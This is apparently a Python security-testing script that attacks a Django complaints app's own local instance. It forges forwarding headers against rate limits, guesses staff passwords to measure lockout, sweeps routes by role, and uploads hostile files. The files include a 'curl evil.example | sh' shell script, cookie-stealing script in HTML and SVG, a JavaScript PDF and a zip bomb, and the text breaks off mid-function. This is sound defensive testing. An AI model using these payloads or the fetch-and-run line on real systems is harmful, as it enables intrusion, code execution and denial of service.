"""`make security-report`: the figures of docs/security.md, measured from a real run.

Starts the app as production runs it (gunicorn, 2 sync workers, DEBUG=0, the
database cache shared by both workers) on a scratch database loaded with
seed_demo, attacks it over HTTP (wrong receipt codes, filings, staff logins,
hostile uploads, every route as every role with every method), stops it, then
runs the tests and tools the other figures come from (tamper tests, schemathesis,
fault tests, bandit) and writes the table into docs/security.md between the
``security-report`` markers. A part whose tool is missing says "not available".

    .venv/bin/python tools/security_report.py            # SQLite scratch file
    DATABASE_URL=postgres://postgres@127.0.0.1:5432/x ...  # a scratch database
                                                           # <name>_security_report
                                                           # on that server instead

The script reads the project's rules in-process (``ethics_tracker.core.policy.can``
on the same scratch database) to decide what each answer should have been.
"""

import base64
import datetime
import http.cookiejar
import io
import json
import os
import re
import secrets
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
import xml.etree.ElementTree as ET
import zipfile
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
BIN = ROOT / ".venv" / "bin"
PYTHON = str(BIN / "python")
DOC = ROOT / "docs" / "security.md"
START, END = "<!-- security-report:start -->", "<!-- security-report:end -->"
PASSWORD = "demo-pass-2026"  # seed_demo's password for every demo user  # noqa: S105
NOT_AVAILABLE = "not available yet"
T0 = time.monotonic()


def say(message: str) -> None:
    print(f"[{time.monotonic() - T0:6.0f}s] {message}", flush=True)


# --- the scratch database and the server -----------------------------------------------


def scratch_database(workdir: Path) -> tuple[str, callable]:
    """A DATABASE_URL for a fresh database and a function that drops it."""
    given = os.environ.get("DATABASE_URL", "")
    if not given.startswith(("postgres://", "postgresql://")):
        return f"sqlite:///{workdir / 'report.sqlite3'}", lambda: None
    import psycopg

    parts = urllib.parse.urlsplit(given)
    name = f"{parts.path.lstrip('/') or 'postgres'}_security_report"
    admin_url = urllib.parse.urlunsplit(parts._replace(path="/postgres"))

    def run(sql):
        with psycopg.connect(admin_url, autocommit=True) as conn:
            conn.execute(sql)

    run(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
    run(f'CREATE DATABASE "{name}"')
    return urllib.parse.urlunsplit(parts._replace(path=f"/{name}")), lambda: run(
        f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'
    )


def server_env(workdir: Path, database_url: str, **extra) -> dict:
    env = {k: v for k, v in os.environ.items() if k not in {"REDIS_URL", "DJANGO_ENV"}}
    env.update(
        DATABASE_URL=database_url,
        DEBUG="0",
        MEDIA_ROOT=str(workdir / "uploads"),
        EMAIL_BACKEND="django.core.mail.backends.locmem.EmailBackend",
        TRUSTED_PROXY_COUNT="0",
        PYTHONPATH=str(ROOT),
        **extra,
    )
    return env


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class Server:
    """gunicorn with two sync workers; ``with Server(...) as base_url:``."""

    def __init__(self, env: dict, log: Path):
        self.env, self.log, self.port, self.process = env, log, free_port(), None

    def __enter__(self) -> str:
        self.process = subprocess.Popen(  # noqa: S603 (our own venv's gunicorn)
            [
                str(BIN / "gunicorn"),
                "ethics_tracker.wsgi",
                "-w",
                "2",
                "-b",
                f"127.0.0.1:{self.port}",
                "--timeout",
                "120",
            ],
            cwd=ROOT,
            env=self.env,
            stdout=self.log.open("ab"),
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        base = f"http://127.0.0.1:{self.port}"
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"gunicorn exited ({self.process.returncode}); see {self.log}")
            try:
                with urllib.request.urlopen(base + "/healthz", timeout=5):  # noqa: S310
                    return base
            except (OSError, urllib.error.URLError):
                time.sleep(0.5)
        raise RuntimeError(f"gunicorn did not answer within 90 s; see {self.log}")

    def __exit__(self, *exc):
        if self.process and self.process.poll() is None:
            os.killpg(self.process.pid, signal.SIGTERM)
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                os.killpg(self.process.pid, signal.SIGKILL)


# --- an HTTP client that keeps cookies and never follows redirects ---------------------


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


@dataclass
class Answer:
    status: int
    headers: dict
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    @property
    def location(self) -> str:
        return self.headers.get("location", "")


class Browser:
    def __init__(self, base: str):
        self.base = base
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(self.jar), NoRedirect()
        )

    def cookie(self, name: str) -> str:
        return next((c.value for c in self.jar if c.name == name), "")

    def request(self, method, path, *, form=None, json_body=None, files=None, headers=None):
        headers = {"Accept-Language": "en", **(headers or {})}
        data = None
        if files is not None:
            data, headers["Content-Type"] = multipart(form or {}, files)
        elif json_body is not None:
            data = json.dumps(json_body).encode()
            headers["Content-Type"] = "application/json"
        elif form is not None:
            data = urllib.parse.urlencode(form, doseq=True).encode()
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        elif method not in {"GET", "HEAD"}:
            data = b""
        if method not in {"GET", "HEAD"} and self.cookie("csrftoken"):
            headers.setdefault("X-CSRFToken", self.cookie("csrftoken"))
            headers.setdefault("Referer", self.base + "/")
        url = path if path.startswith("http") else self.base + path
        req = urllib.request.Request(url, data=data, method=method, headers=headers)  # noqa: S310
        try:
            with self.opener.open(req, timeout=120) as resp:
                return Answer(
                    resp.status, {k.lower(): v for k, v in resp.headers.items()}, resp.read()
                )
        except urllib.error.HTTPError as error:
            return Answer(
                error.code, {k.lower(): v for k, v in error.headers.items()}, error.read()
            )

    def get(self, path, **kw):
        return self.request("GET", path, **kw)

    def post(self, path, **kw):
        return self.request("POST", path, **kw)

    def csrf(self, path="/accounts/login/") -> str:
        if not self.cookie("csrftoken"):
            self.get(path)
        return self.cookie("csrftoken")


def multipart(fields: dict, files: list[tuple[str, str, bytes]]) -> tuple[bytes, str]:
    boundary = uuid.uuid4().hex
    out = io.BytesIO()
    for name, value in fields.items():
        out.write(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
            f"{value}\r\n".encode()
        )
    for name, filename, content in files:
        out.write(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
            f'filename="{filename}"\r\nContent-Type: application/octet-stream\r\n\r\n'.encode()
        )
        out.write(content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


def made_up_ip() -> str:
    return f"203.0.{secrets.randbelow(256)}.{1 + secrets.randbelow(254)}"


SPOOFS = {
    "no spoofed header": lambda: {},
    "a new made-up X-Forwarded-For each time": lambda: {"X-Forwarded-For": made_up_ip()},
    "X-Forwarded-For: <made-up>, 127.0.0.1": lambda: {
        "X-Forwarded-For": f"{made_up_ip()}, 127.0.0.1"
    },
}


# --- in-process access to the scratch database -----------------------------------------


def django_setup(env: dict):
    for key in ("DATABASE_URL", "DEBUG", "MEDIA_ROOT", "TRUSTED_PROXY_COUNT"):
        os.environ[key] = env[key]
    os.environ.pop("REDIS_URL", None)
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "ethics_tracker.settings")
    sys.path.insert(0, str(ROOT))
    import django

    django.setup()


def reset_limits():
    """Forget every throttle counter and lockout, so that each measurement starts fresh."""
    from django.apps import apps
    from django.core.cache import caches

    for alias in caches:
        caches[alias].clear()
    if apps.is_installed("axes"):
        from axes.utils import reset

        reset()


def installed(app: str) -> bool:
    from django.apps import apps

    return apps.is_installed(app)


def needs_second_factor(username: str) -> bool:
    if not installed("ethics_tracker.accounts"):
        return False
    from django.contrib.auth import get_user_model

    from ethics_tracker.core.policy import can

    return can(get_user_model().objects.get(username=username), "account.needs_second_factor")


def otp_code(username: str) -> str | None:
    """A current TOTP code from the user's authenticator device, created (and confirmed)
    in the scratch database if there is none; None before the accounts app exists."""
    if not installed("ethics_tracker.accounts"):
        return None
    from django.contrib.auth import get_user_model

    from ethics_tracker.accounts.models import TOTPDevice

    user = get_user_model().objects.get(username=username)
    device = TOTPDevice.objects.filter(user=user, confirmed=True).first()
    if device is None:
        device = TOTPDevice.new_for(user)
        device.confirmed = True
        device.save()
    # A code works once: wait for the next time step if this one was spent.
    while device.totp().t() <= device.last_t:
        time.sleep(1)
        device.refresh_from_db()
    return f"{device.totp().token():0{device.digits}d}"


# --- (e) logins ------------------------------------------------------------------------

OTP_FIELD = re.compile(r'name="(code|otp_token)"')


def login(base: str, username: str, *, path="/accounts/login/", password=PASSWORD):
    """A browser with a session for ``username`` (password, then the TOTP step if asked).

    Returns (browser, outcome) with outcome "in", "second step", or the status refused.
    """
    browser = Browser(base)
    browser.csrf(path)
    answer = browser.post(
        path,
        form={
            "username": username,
            "password": password,
            "csrfmiddlewaretoken": browser.cookie("csrftoken"),
            "next": "/",
        },
    )
    for _hop in range(5):
        if answer.status in (301, 302, 303) and answer.location:
            target = urllib.parse.urljoin(base + path, answer.location)
            page = browser.get(target)
            if page.status == 200 and OTP_FIELD.search(page.text):
                return browser, "second step", (target, page)
            if page.status in (301, 302, 303):
                answer = page
                path = urllib.parse.urlsplit(target).path
                continue
            return browser, "in", None
        if answer.status == 200 and OTP_FIELD.search(answer.text):
            return browser, "second step", (base + path, answer)
        break
    return browser, f"refused ({answer.status})", None


def full_login(base: str, username: str, path="/accounts/login/") -> Browser:
    if needs_second_factor(username):
        otp_code(username)  # a confirmed device first: the code step, not enrolment
    browser, outcome, step = login(base, username, path=path)
    if outcome == "second step":
        target, page = step
        # The form that holds the code field (the layout has other forms: language, logout)
        form = next(chunk for chunk in page.text.split("<form")[1:] if OTP_FIELD.search(chunk))
        action = re.match(r'[^>]*action="([^"]*)"', form)
        url = (
            urllib.parse.urljoin(target, action.group(1)) if action and action.group(1) else target
        )
        name = OTP_FIELD.search(page.text).group(1)
        answer = browser.post(
            url, form={name: otp_code(username), "csrfmiddlewaretoken": browser.cookie("csrftoken")}
        )
        if answer.status not in (301, 302, 303) or browser.get("/").status != 200:
            raise RuntimeError(f"{username}: the TOTP step answered {answer.status}")
    elif outcome != "in":
        raise RuntimeError(f"{username} could not log in: {outcome}")
    return browser


# --- (a) wrong receipt codes, (b) filings --------------------------------------------------


def wrong_codes(base: str, reference: str, door: str, spoof, tries: int) -> tuple[int, int]:
    """(answered, refused with 429) of ``tries`` wrong codes for ``reference``."""
    reset_limits()
    browser = Browser(base)
    answered = refused = 0
    for _ in range(tries):
        wrong = "-".join(secrets.token_hex(2).upper() for _ in range(5))
        if door.startswith("API"):
            target = reference
            if "new reference" in door:  # spraying references: only the per-client limit
                target = f"{reference.rsplit('-', 1)[0]}-{secrets.randbelow(10**6):06d}"
            answer = browser.get(
                f"/api/v1/complaints/{target}/follow-up/",
                headers={"X-Receipt-Code": wrong, **spoof()},
            )
        else:
            browser.csrf("/complaints/follow/")
            answer = browser.post(
                "/complaints/follow/",
                headers=spoof(),
                form={
                    "reference": reference,
                    "receipt_code": wrong,
                    "csrfmiddlewaretoken": browser.cookie("csrftoken"),
                },
            )
        if answer.status == 429:
            refused += 1
        elif answer.status in (400, 404):
            answered += 1
        else:
            raise RuntimeError(f"a wrong code via the {door} answered {answer.status}")
    return answered, refused


def complaint_body(n: int) -> dict:
    return {
        "conduct_date": datetime.datetime.now(datetime.UTC).date().isoformat(),
        "anonymous": True,
        "respondent_name": "A. Member",
        "summary": f"Security report filing {n}",
        "description": "Filed by tools/security_report.py to measure the filing limit.",
    }


def filings(base: str, spoof, tries: int) -> tuple[int, int]:
    reset_limits()
    browser = Browser(base)
    accepted = refused = 0
    for n in range(tries):
        answer = browser.post(
            "/api/v1/complaints/",
            json_body=complaint_body(n),
            headers={"Idempotency-Key": uuid.uuid4().hex, **spoof()},
        )
        if answer.status == 201:
            accepted += 1
        elif answer.status == 429:
            refused += 1
        else:
            raise RuntimeError(f"a filing answered {answer.status}: {answer.text[:300]}")
    return accepted, refused


def idempotency_reuse(base: str) -> str:
    """The same Idempotency-Key with a different body: what comes back."""
    reset_limits()
    browser = Browser(base)
    key = uuid.uuid4().hex
    first = browser.post(
        "/api/v1/complaints/", json_body=complaint_body(1), headers={"Idempotency-Key": key}
    )
    other = {**complaint_body(2), "summary": "A completely different complaint"}
    again = browser.post("/api/v1/complaints/", json_body=other, headers={"Idempotency-Key": key})
    leaked = first.status == 201 and json.loads(first.body).get("receipt_code", "?") in again.text
    return f"{again.status}" + (" — with the first complaint's receipt code" if leaked else "")


# --- (c) staff logins ----------------------------------------------------------------------


def login_lockout(base: str, username: str, path: str, tries: int, inside: str) -> tuple:
    """Wrong passwords until the answer is no longer "wrong password" (or ``tries``), then
    the right one. Returns (wrong passwords answered, the answer that stopped them, what
    the right password got: "logged in" to ``inside``, "second step", or refused)."""
    reset_limits()
    if needs_second_factor(username):
        otp_code(username)
    answered, stopped = 0, "never"
    for _ in range(tries):
        wrong = "wrong-" + secrets.token_hex(4)
        _browser, outcome, _step = login(base, username, path=path, password=wrong)
        if outcome != "refused (200)":
            stopped = outcome.replace("refused ", "").strip("()")
            break
        answered += 1
    browser, outcome, _step = login(base, username, path=path)
    if outcome == "in":
        page = browser.get(inside)
        outcome = "logged in" if page.status == 200 else f"refused at {inside} ({page.status})"
    return answered, stopped, outcome


def token_lockout(base: str, username: str, tries: int) -> tuple:
    """The API's token endpoint: wrong passwords until refused otherwise, then the right
    password alone, then with a TOTP code (staff)."""
    reset_limits()
    browser = Browser(base)
    answered, stopped = 0, "never"
    for _ in range(tries):
        wrong = {"username": username, "password": "wrong-" + secrets.token_hex(4)}
        answer = browser.post("/api/v1/auth/token/", json_body=wrong)
        if answer.status != 401:
            stopped = str(answer.status)
            break
        answered += 1
    right = browser.post(
        "/api/v1/auth/token/", json_body={"username": username, "password": PASSWORD}
    )
    outcome = (
        f"{right.status} ({json.loads(right.body).get('code', '')})"
        if right.body
        else str(right.status)
    )
    return answered, stopped, outcome


def token_second_factor(base: str, username: str) -> str:
    """What the token endpoint answers a staff member: password alone, then with a code."""
    reset_limits()
    browser = Browser(base)
    alone = browser.post(
        "/api/v1/auth/token/", json_body={"username": username, "password": PASSWORD}
    )
    code = otp_code(username)
    both = browser.post(
        "/api/v1/auth/token/",
        json_body={"username": username, "password": PASSWORD, "otp_token": code or ""},
    )
    return f"password alone → {alone.status}; with a TOTP code → {both.status}"


# --- (d) hostile uploads -------------------------------------------------------------------


def tiny_png() -> bytes:
    return base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    )


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def hostile_files(max_bytes: int) -> list[tuple[str, str, bytes]]:
    script = b"<script>alert(document.cookie)</script>"
    bomb = b"\0" * (200 * 1024 * 1024)
    return [
        ("Windows program renamed .pdf", "invoice.pdf", b"MZ\x90\x00\x03" + b"\0" * 200),
        ("Linux program renamed .jpg", "photo.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 200),
        ("shell script renamed .txt", "notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("HTML with script named .png", "photo.png", b"<html><body>" + script + b"</body></html>"),
        (
            "SVG with script",
            "logo.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>",
        ),
        (
            "PDF with JavaScript (OpenAction)",
            "report.pdf",
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
            b"endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n",
        ),
        ("file over the size limit", "big.png", tiny_png() + b"\0" * (max_bytes + 1)),
        ("plain zip archive", "evidence.zip", zip_bytes({"a.txt": b"hello"})),
        (
            "zip bomb shaped as DOCX (200 MB inflated)",
            "statement.docx",
            zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": bomb}),
        ),
        ("HTML page named .txt", "letter.txt", b"<!doctype html><html>" + script + b"</html>"),
    ]


def uploads(base: str, max_bytes: int) -> dict:
    """File each hostile file with a complaint through the API; for accepted ones, how
    the follow-up API serves them back."""
    rows = []
    cases = [("control: a real PNG", "photo.png", tiny_png()), *hostile_files(max_bytes)]
    for label, name, content in cases:
        reset_limits()
        browser = Browser(base)
        answer = browser.post(
            "/api/v1/complaints/",
            form={**complaint_body(0), "anonymous": "true"},
            files=[("evidence", name, content)],
            headers={"Idempotency-Key": uuid.uuid4().hex},
        )
        row = {"label": label, "status": answer.status, "served": ""}
        if answer.status == 201:
            row["served"] = served_as(browser, json.loads(answer.body))
        rows.append(row)
    return {"rows": rows}


def served_as(browser: Browser, filing: dict) -> str:
    reference, code = filing["reference"], filing["receipt_code"]
    case = browser.get(
        f"/api/v1/complaints/{reference}/follow-up/", headers={"X-Receipt-Code": code}
    )
    files = json.loads(case.body).get("files", []) if case.status == 200 else []
    if not files:
        return "stored (not listed to the complainant)"
    file_id = files[0].get("public_id") or files[0].get("id")
    answer = browser.get(
        f"/api/v1/complaints/{reference}/follow-up/files/{file_id}/",
        headers={"X-Receipt-Code": code},
    )
    h = answer.headers
    safe = (
        "attachment" in h.get("content-disposition", "")
        and h.get("x-content-type-options") == "nosniff"
    )
    sandbox = "sandbox" in h.get("content-security-policy", "")
    return (
        f"{h.get('content-type', '?')}, "
        f"{'attachment+nosniff' if safe else 'NOT attachment+nosniff'}"
        f"{', sandbox CSP' if sandbox else ', no sandbox CSP'}"
    )


# --- (e) routes × roles × methods ----------------------------------------------------------

ROLES = {  # the sweep's roles and the demo login for each ("" = anonymous)
    "anonymous": "",
    "member": "member",
    "committee member": "committee1",
    "chair": "chair",
    "auditor": "auditor",
    "secretary": "secretary",  # last: the secretary's empty writes may change objects
}
METHODS = ["GET", "POST", "PUT", "PATCH", "DELETE"]
ANYONE, NOBODY, SIGNED_IN = "anyone", "nobody", "signed in"
SKIP = {
    "login",
    "logout",
    "set_language",
    "admin:logout",
}  # would end or change the sweep's own session


def expectations():
    """URL name (fnmatch) → (who may read it, who may write to it): ANYONE, NOBODY, or a
    policy action asked with the URL's object. First match wins; the complainant's doors
    are NOBODY because none of these sessions proved a receipt code."""
    return [
        ("admin:login", ANYONE, ANYONE),
        ("accounts:*", "account.needs_second_factor", "account.needs_second_factor"),
        ("api-auth-token", NOBODY, ANYONE),  # POST: credentials for a token
        ("admin:*", "admin.access", "admin.access"),
        ("home", ANYONE, NOBODY),
        ("healthz", ANYONE, NOBODY),
        ("api-schema", ANYONE, NOBODY),
        ("api-docs", ANYONE, NOBODY),
        ("cases:file", ANYONE, ANYONE),
        ("cases:how", ANYONE, NOBODY),
        ("cases:follow", ANYONE, ANYONE),
        ("cases:follow_leave", NOBODY, ANYONE),
        ("cases:follow_*", NOBODY, NOBODY),
        ("api-complaint-follow-up*", NOBODY, NOBODY),
        ("cases:evidence_download", "evidence.download", NOBODY),
        ("cases:staff_list", "complaint.list_incoming", NOBODY),
        ("cases:staff_register", "complaint.register", "complaint.register"),
        ("cases:staff_detail", "complaint.view", NOBODY),
        ("cases:staff_message", "complaint.message_complainant", "complaint.message_complainant"),
        ("cases:staff_evidence", "complaint.register_evidence", "complaint.register_evidence"),
        ("api-complaint-list", "complaint.list_incoming", "complaint.file"),
        ("api-complaint-detail", "complaint.view", NOBODY),
        ("api-complaint-messages", "complaint.view", "complaint.message_complainant"),
        ("cases:committee_list", "case.list_committee", NOBODY),
        ("cases:committee_members", "committee.view_members", NOBODY),
        ("cases:committee_member_*", NOBODY, "committee.manage_members"),
        ("api-member-lookup", ANYONE, NOBODY),
        ("api-complaint-register", NOBODY, "complaint.register"),
        ("api-committee-membership-list", "committee.view_members", "committee.manage_members"),
        ("api-committee-membership-detail", "committee.view_members", NOBODY),
        ("api-committee-membership-end", NOBODY, "committee.manage_members"),
        ("api-committee-membership-candidates", "committee.manage_members", NOBODY),
        ("cases:committee_case", "case.view_committee", NOBODY),
        ("cases:committee_seat", "case.manage_panel", "case.manage_panel"),
        ("cases:committee_conflict", "case.declare_conflict", "case.declare_conflict"),
        ("cases:committee_vote", "case.vote", "case.vote"),
        ("cases:committee_note", "case.add_internal_note", "case.add_internal_note"),
        (
            "cases:committee_consent",
            "case.record_mediation_consent",
            "case.record_mediation_consent",
        ),
        ("cases:committee_reveal", "case.reveal_identity", "case.reveal_identity"),
        ("cases:committee_transition", "case.view_committee", "step"),
        ("api-case-list", "case.list_committee", NOBODY),
        ("api-case-mediation-consent", NOBODY, "case.record_mediation_consent"),
        ("api-case-notes", "case.add_internal_note", "case.add_internal_note"),
        ("api-case-identity-disclosure", NOBODY, "case.reveal_identity"),
        ("api-case-take", "case.view_committee", "step"),
        ("api-case-*", "case.view_committee", NOBODY),
        ("cases:respondent_list", SIGNED_IN, NOBODY),  # one's own cases, often none
        ("cases:respondent_case", "case.view_as_respondent", NOBODY),
        ("cases:respondent_reply", "case.reply", "case.reply"),
        ("cases:respondent_appeal", "case.appeal", "case.appeal"),
        ("audit:transparency*", ANYONE, NOBODY),  # the published checkpoint heads: public
        ("audit:export", "audit.export", NOBODY),
        ("api-audit-export", "audit.export", NOBODY),
        ("audit:*", "audit.view", NOBODY),
        ("api-audit-*", "audit.view", NOBODY),
        ("code_of_conduct:code_create", "code.create", "code.create"),
        ("code_of_conduct:draft_*", "version.create", "version.create"),
        ("code_of_conduct:version_publish", "version.publish", "version.publish"),
        ("code_of_conduct:provision_*", "version.edit", "version.edit"),
        ("code_of_conduct:*", "version.view", NOBODY),
        ("code-list", ANYONE, "code.create"),
        ("code-detail", ANYONE, "code.edit"),
        ("version-list", ANYONE, "version.create"),
        ("version-compare", ANYONE, NOBODY),
        ("version-canonical", "version.view", NOBODY),
        ("version-publish", "version.publish", "version.publish"),
        ("version-detail", "version.view", "version.edit"),
        ("provision-*", ANYONE, "version.edit"),
        ("my-acceptance-list", "member.view_own", "acceptance.sign"),
        ("coverage-*", "coverage.view", NOBODY),
        ("members:me", SIGNED_IN, NOBODY),  # one's own signatures, or "not a member"
        ("members:sign", SIGNED_IN, SIGNED_IN),  # a redirect to what is left to sign
        ("members:sign_version", "acceptance.sign", "acceptance.sign"),
        ("members:receipt*", "acceptance.view_receipt", NOBODY),
        ("members:coverage_remind", "reminder.send", "reminder.send"),
        ("members:coverage*", "coverage.view", NOBODY),
        ("members:paper", "acceptance.register_paper", "acceptance.register_paper"),
        ("members:import", "acceptance.import", "acceptance.import"),
        ("members:register", "register.view_public", NOBODY),
        ("*", None, None),  # an unknown route: reported, never counted
    ]


def sweep_world() -> dict:
    """Real values for every URL argument, from the seeded scratch database."""
    from cases.models import Case
    from code_of_conduct.models import Acceptance, CodeVersion
    from ethics_tracker.audit.models import LedgerCheckpoint

    version = CodeVersion.objects.filter(state="published").order_by("pk").first()
    provision = version.provisions.order_by("pk").first()
    with_files = Case.objects.filter(files__isnull=False).order_by("pk").first()
    # a received case no committee member sits on, and one on committee1's panel that the
    # demo member answers as respondent
    second = Case.objects.filter(state="awaiting_response").order_by("pk").first()
    checkpoint = LedgerCheckpoint.objects.order_by("pk").first()
    return {
        "reference": [with_files.reference, second.reference],
        "public_id": [with_files.files.order_by("pk").first().public_id],
        "file_id": [with_files.files.order_by("pk").first().public_id],
        "slug": [version.code.slug],
        "label": [version.label],
        "key": [provision.key],
        "pk": [version.pk],
        "version_id": [version.pk],
        "receipt_id": [Acceptance.objects.order_by("pk").first().receipt_id],
        "object_id": [with_files.pk],
        "name": ["acknowledge"],
        "kind": ["ledger"],
        "fmt": ["csv"],
        "_checkpoint": checkpoint,
    }


def routes(world: dict):
    """(url name, url, kwargs) of every named route, admin included."""
    import itertools

    from django.urls import URLResolver, get_resolver, reverse
    from django.urls.exceptions import NoReverseMatch

    def names(resolver, namespace=()):
        for pattern in resolver.url_patterns:
            if isinstance(pattern, URLResolver):
                inner = namespace + ((pattern.namespace,) if pattern.namespace else ())
                yield from names(pattern, inner)
            elif pattern.name:
                yield ":".join((*namespace, pattern.name)), sorted(pattern.pattern.regex.groupindex)

    seen = set()
    for name, kwarg_names in names(get_resolver()):
        if name in SKIP:
            continue
        if name.startswith("admin:") and kwarg_names:
            continue  # the admin's lists and forms are enough: none of the roles is staff
        choices = [world.get(k, ["1"]) for k in kwarg_names]
        if name.endswith("checkpoint_download") and world["_checkpoint"]:
            choices = [[world["_checkpoint"].pk]]
        if "object_id" in kwarg_names:  # the audit trail of one record: label is a model
            choices[kwarg_names.index("label")] = ["cases.case"]
        for values in itertools.product(*choices):
            kwargs = dict(zip(kwarg_names, values, strict=True))
            try:
                url = reverse(name, kwargs=kwargs)
            except NoReverseMatch:
                continue
            if url not in seen:
                seen.add(url)
                yield name, url, kwargs


def url_object(name: str, kwargs: dict):
    """The object a URL names, for the policy's object-level rules."""
    from cases.models import Case, EvidenceFile
    from code_of_conduct.models import Acceptance, CodeVersion

    if "reference" in kwargs:
        return Case.objects.filter(reference=kwargs["reference"]).first()
    if "public_id" in kwargs:
        return EvidenceFile.objects.filter(public_id=kwargs["public_id"]).first()
    if "receipt_id" in kwargs:
        return Acceptance.objects.filter(receipt_id=kwargs["receipt_id"]).first()
    if "label" in kwargs and "slug" in kwargs:
        return CodeVersion.objects.filter(code__slug=kwargs["slug"], label=kwargs["label"]).first()
    if "pk" in kwargs and name.startswith(("version", "provision")):
        return CodeVersion.objects.filter(pk=kwargs["pk"]).first()
    if "version_id" in kwargs:
        return CodeVersion.objects.filter(pk=kwargs["version_id"]).first()
    return None


def expected(rule, user, name, kwargs) -> bool | None:
    from django.contrib.auth.models import AnonymousUser

    from ethics_tracker.core.policy import can

    user = user or AnonymousUser()
    if rule is None:
        return None
    if rule == ANYONE:
        return True
    if rule == NOBODY:
        return False
    if rule == SIGNED_IN:
        return user.is_authenticated
    obj = url_object(name, kwargs)
    if rule == "step":  # the step's own permission, from the state the case is in now
        from cases import workflow

        return obj is not None and kwargs["name"] in {
            o.name for o in workflow.options_for(obj, user)
        }
    return can(user, rule, obj)


REFUSAL_PAGES = (
    "/accounts/login/",
    "/admin/login/",
    "/complaints/follow/",
    "otp",
    "two-factor",
    "2fa",
    "verify",
)


def allowed(answer: Answer) -> bool:
    """2xx, or a redirect that does not send the caller to sign in or prove a code."""
    if 200 <= answer.status < 300:
        return True
    if 300 <= answer.status < 400:
        return not any(part in answer.location for part in REFUSAL_PAGES)
    return False


def sweep(base: str) -> dict:
    from fnmatch import fnmatch

    from django.contrib.auth import get_user_model

    world = sweep_world()
    table = expectations()
    users = {
        role: (get_user_model().objects.get(username=name) if name else None)
        for role, name in ROLES.items()
    }
    url_list = list(routes(world))
    tried, unexpected, missing, errors, unknown, same_again = 0, [], [], [], set(), set()
    as_expected = 0
    by_status = Counter()
    for role, username in ROLES.items():
        reset_limits()
        browser = full_login(base, username) if username else Browser(base)
        browser.csrf("/")
        say(f"  routes as {role}: {len(url_list)} URLs × {len(METHODS)} methods")
        user = users[role]
        for name, url, kwargs in url_list:
            read_rule, write_rule = next(
                (r, w) for pattern, r, w in table if fnmatch(name, pattern)
            )
            if user is not None:
                user = get_user_model().objects.get(pk=user.pk)  # fresh role caches
            may_read = expected(read_rule, user, name, kwargs)
            may_write = expected(write_rule, user, name, kwargs)
            for method in METHODS:
                body = {} if method != "GET" else None
                answer = browser.request(
                    method,
                    url,
                    json_body=body if url.startswith("/api/") else None,
                    form=body if not url.startswith("/api/") else None,
                )
                tried += 1
                by_status[answer.status] += 1
                if answer.status >= 500:
                    errors.append(f"{method} {url} as {role} → {answer.status}")
                if may_read is None:
                    unknown.add(name)
                    continue
                may = may_read if method == "GET" else may_write
                if not may and allowed(answer):
                    # A page or download the role may read, answering a write with its
                    # content again (the view does not check the method): nothing written.
                    page = not url.startswith("/api/") and answer.status == 200
                    if method != "GET" and may_read and page:
                        same_again.add(f"{url} ({name})")
                        continue
                    unexpected.append(f"{method} {url} ({name}) as {role} → {answer.status}")
                elif may and allowed(answer):
                    as_expected += 1
                elif method == "GET" and may and answer.status in (302, 401, 403, 404):
                    # refused although the rule allows it (400/405/409 are answers)
                    missing.append(f"{method} {url} ({name}) as {role} → {answer.status}")
    return {
        "urls": len(url_list),
        "roles": len(ROLES),
        "methods": len(METHODS),
        "tried": tried,
        "unexpected": unexpected,
        "missing": missing,
        "errors": errors,
        "unknown": sorted(unknown),
        "same_again": sorted(same_again),
        "as_expected": as_expected,
        "by_status": dict(sorted(by_status.items())),
    }


# --- 3. the tests and tools ------------------------------------------------------------------


def test_env() -> dict:
    env = {k: v for k, v in os.environ.items() if k not in {"REDIS_URL", "DJANGO_SETTINGS_MODULE"}}
    for key in ("MEDIA_ROOT", "DEBUG", "TRUSTED_PROXY_COUNT"):
        env.pop(key, None)
    if not ORIGINAL_DATABASE_URL.startswith("postgres"):
        env.pop("DATABASE_URL", None)
    else:
        env["DATABASE_URL"] = ORIGINAL_DATABASE_URL
    return env


def pytest_junit(paths: list[str], workdir: Path, tag: str, extra_env=None) -> dict | None:
    present = [p for p in paths if (ROOT / p).exists()]
    if not present:
        return None
    xml = workdir / f"{tag}.xml"
    say(f"pytest {' '.join(present)}")
    subprocess.run(  # noqa: S603
        [PYTHON, "-m", "pytest", *present, "-q", "-p", "no:cacheprovider", f"--junitxml={xml}"],
        cwd=ROOT,
        env={**test_env(), **(extra_env or {})},
        stdout=(workdir / f"{tag}.log").open("w"),
        stderr=subprocess.STDOUT,
        check=False,
    )
    if not xml.exists():
        return {
            "tried": 0,
            "passed": 0,
            "failed": [],
